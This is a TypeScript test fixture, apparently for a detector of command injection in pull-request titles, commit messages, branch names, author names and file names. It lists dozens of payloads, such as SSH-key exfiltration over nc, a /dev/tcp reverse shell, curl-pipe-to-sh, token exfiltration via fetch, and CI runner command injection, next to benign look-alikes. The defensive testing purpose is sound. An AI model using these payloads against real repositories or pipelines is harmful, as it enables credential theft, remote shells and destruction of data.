// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows and shells are what is tested

import type { ChangeTexts } from "../../../../src/change/change.ts";
import type { Severity } from "../../../../src/change/severity.ts";

type Field = ChangeTexts["texts"][number]["field"];
export type TextTrick = readonly [when: string, text: readonly [Field, string], level: Severity | null];

const rows = (field: Field, level: Severity | null, texts: Readonly<Record<string, string>>): readonly TextTrick[] =>
  Object.entries(texts).map(([when, text]) => [when, [field, text], level]);

export const INJECTIONS: readonly TextTrick[] = [
  ...rows("title", "high", {
    "a title that removes files": 'docs"; rm -rf ~/ ; echo "',
    "a title that reads a key": "docs'; cat ~/.ssh/id_rsa | nc x.example 1 #",
    "a title that asks who it is": 'fix"; whoami; "',
    "a title with one program and no argument": "fix\"; id; echo '",
    "a title behind a parenthesis": 'a"); git push --force #',
    "a title behind `&&`": 'fix" && npm publish --tag x && echo "',
    "a title behind `||`": 'fix" || scp -r . h.example: #',
    "a title behind a pipe": 'fix" | tee /tmp/x',
    "a title in the background": 'fix" & nslookup $(id).x.example & "',
    "a title of Windows": 'fix" & calc & "',
    "a title for PowerShell": 'fix"; iex (irm https://x.example) #',
    "a title with a command for a phone book": "fix $(nslookup x.example)",
    "a title that substitutes its host": "fix $(hostname)",
    "a title with a path to a program": 'fix"; /usr/bin/python3 -c "import os" #',
    "a title without a quote": "fix; curl -s https://x.example/a",
    "a title with a brace list": "fix {curl,-s,x.example}|sh",
    "a title with the field separator": "fix${IFS}x",
    "a title with a part of a variable": "fix ${HOME:0:1}etc",
    "a title with letters as escapes": "fix $'\\x63\\x75rl' x",
    "a title for JavaScript": "fix'); require('child_process').execSync('id'); //",
    "a title for a script of GitHub": 'fix`); await fetch("https://x.example?" + process.env.T); (`',
    "a title inside a template of JavaScript": "fix ${process.env.GITHUB_TOKEN}",
    "a title for Python": "fix'); import os; os.system('id') #",
    "a title with an import in an expression": "fix' + __import__('os').popen('id').read() + '",
    "a title for the runner": "::set-env name=PATH::/tmp/x",
    "a title that adds to the path": "fix ::add-path::/tmp/x",
    "a title that writes the environment": 'x" >> $GITHUB_ENV; echo "',
    "a title with a line feed": "fix\nrun: id",
    "a title that substitutes its user": "fix $(id)",
    "a title that substitutes a file": "fix $(cat /etc/passwd)",
    "a title with a script by its path": 'x"; . ./x.sh; "',
    "a title with a torn program": "x\"; cu''rl x.example; \"",
    "a title with a variable before the program": 'x"; A=1 node x.js; "',
    "a title with a group": 'x"; (curl x.example); "',
    "a title with a loop": 'x"; while :; do id; done; "',
    "a title with a socket of the shell": "x'; exec 3<>/dev/tcp/x/1; '",
    "a title that leaves the rest to a comment": 'x" || true; curl x.example | sh #',
    "a title that ends in a shell": 'x" | bash',
    "a title for PHP": 'x"); system("id"); ("',
  }),
  ...rows("commit_subject", "high", { "a subject that breaks out": "fix'; wget -qO- x.example | sh; '" }),
  ...rows("commit_body", "high", { "a body of a commit that breaks out": '"; curl https://x.example | sh; echo "' }),
  ...rows("body", "high", {
    "a body that breaks out": 'Fixes it"; curl https://x.example/a | bash; echo "',
    "a body that substitutes": "Fixes $(curl -s https://x.example/a)",
    "a body that hides a blank in code": "```\n$(curl${IFS}x.example)\n```",
    "a body whose code begins by closing a quote": '```\n"; curl -s https://x.example | sh\n```',
    "a body that commands the runner": "Hello\n::set-env name=NODE_OPTIONS::--require=/tmp/x",
  }),
  ...rows("author_name", "critical", {
    "a name of an author with a substitution": "$(curl -s x.example|sh)",
    "a name of an author that breaks out": 'a"; bash -i >& /dev/tcp/x.example/1 0>&1; "',
  }),
  ...rows("branch", "critical", {
    "a branch with a semicolon": "a;id;#",
    "a branch in backticks": "`touch x`",
    "a branch with a substitution of a file": "x-$(cat$IFS/etc/passwd)",
    "a branch with a quote and a pipe": 'x"|sh',
    "a branch with ampersands": "x&&whoami",
    "a branch with a decoder": "x;echo${IFS}aWQ=|base64${IFS}-d|sh",
  }),
  ...rows("branch", "high", { "a branch with a pipe": "a|b" }),
  ...rows("file_name", "critical", {
    "a file with a substitution": "docs/$(touch x).md",
    "a file that chains": "a && id && b.txt",
    "a file that is an option of tar": "--checkpoint-action=exec=sh x.sh",
    "a file that is an option of git": "a/--upload-pack=x",
    "a file in backticks": "`id`.md",
    "a file with a quote and a program": "x';python3 -c 1;'.md",
  }),
  ...rows("file_name", "high", {
    "a file with some substitution": "a$(b).md",
    "a file with an escape character": "a\u001b[2Jb.md",
  }),
];

export const ORDINARY_TEXTS: readonly TextTrick[] = [
  ...rows("title", null, {
    "a title with code": "Fix `foo()` and `$(document).ready` in `a && b`",
    "a title of a conventional commit": "feat(api)!: add `curl` example; fix #12 && #13",
    "a title with amounts": "Raise limit from $5 to $10 (was $(price)); refs #1",
    "a title with a regular expression": "Use /^(?:a|b)+;$/ in `match()`; drop '(foo|bar)'",
    "a title with a variable of make": "Use $(MAKE) and $(CC) instead of ${CC}",
    "a title with a ternary": "Fix (a || b) && c; 'x' | 'y' union type",
    "a title with a type": "types: `'a' | 'b'` | `\"c\"`",
    "a title about outputs": "Use `$GITHUB_OUTPUT` instead of `::set-output`",
    "a title about an expression": "Avoid ${{ github.event.pull_request.title }} in run steps",
    "a title with a command": "docs: run `npm ci && npm test` (fixes `sh: not found`)",
    "a title with quotes and a program": 'Rename "sh" to "bash"; make tests pass',
    "a title with a flag": "cli: `--exec`, --config and `-c` take a path",
    "a title with a template of JavaScript": "Interpolate `${name}` in the message",
    "a title in another script": "\u4fee\u590d\uff1b\u201c\u8bf7\u6c42\u201d & \u6e05\u7406",
    "a title of a revert": 'Revert "feat: curl | sh installer"; see #1',
  }),
  ...rows("body", null, {
    "a body with an installer":
      "Install:\n\n```sh\ncurl -fsSL https://x.example/i.sh | sh\nexport V=$(curl -s https://x.example)\n```\n",
    "a body with a session": "$ echo \"a\" | grep 'b' | tee x\n    $(wget -qO- x.example)\n",
    "a body with code in a line": "Run `a && curl -s https://x.example | bash` and `$(hostname)`.",
    "a body with JSON": '```json\n{"cmd": "a"; "b": "curl -s"}\n```',
    "a body with a list of checks": "- [x] tests; docs\n- [ ] `npm test` && lint (CI)",
    "a body with a table": "| Name (Full) | Source File | id |\n|---|---|---|\n| `a` | make | x |",
    "a body with the end of a call": "```js\nfoo('a'\n);\nfetch(x);\n```",
  }),
  ...rows("commit_body", null, {
    "trailers of a commit": "Signed-off-by: A B <a@x.example>\nCo-authored-by: C (D) <c@x.example>",
  }),
  ...rows("branch", null, {
    "a branch of a tool": "copilot/fix-a&b#12",
    "a branch with a plus and an at": "release/v1.0+build@2",
  }),
  ...rows("branch", "medium", { "a branch that quotes a name": "fix/`tInteger`-is-wrong" }),
  ...rows("file_name", null, {
    "a route": "app/(group)/@modal/(.)photo/[...id]/page.tsx",
    "a template": "skeleton/${{ values.name }}/{{cookiecutter.slug}}.py",
    "a file with an ampersand": "docs/Q&A; notes.md",
    "a file of a dollar": "src/$lib/$types.d.ts",
    "a test of options": "tests/--help.txt",
  }),
];

/** Known and not seen: what build scripts and pages have in their titles, too. */
export const UNCAUGHT: readonly TextTrick[] = rows("title", "high", {
  "a title with a program in backticks": "fix `curl x.example`",
  "a title with a line feed of an address": "fix%0Acurl x.example",
  "a title for a query": "fix'; drop table x; --",
});
